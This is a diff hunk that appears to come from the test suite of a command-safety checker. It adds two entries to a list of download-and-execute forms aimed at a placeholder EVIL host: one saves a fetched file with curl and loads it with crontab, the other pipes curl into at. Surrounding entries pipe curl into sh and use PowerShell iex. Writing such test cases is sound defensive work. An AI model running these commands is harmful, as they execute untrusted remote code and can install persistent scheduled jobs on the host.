@@ -293,6 +293,8 @@ DOWNLOAD_FORMS: list[tuple[str, str]] = [
     ("command_name_default_expansion", f"${{CURL:-curl}} -s {EVIL} | sh"),
     ("command_name_not_fixed", f"$FETCH {EVIL} | sh"),
     ("eval_fetch_piped", f"eval curl -s {EVIL} | sh"),
+    ("crontab_from_downloaded_file", f"curl -so /tmp/c {EVIL}\ncrontab /tmp/c"),
+    ("piped_into_at", f"curl -s {EVIL} | at now"),
     ("powershell_iex", f"powershell -Command \"iex ((New-Object Net.WebClient).DownloadString('{EVIL}'))\""),
 ]
 
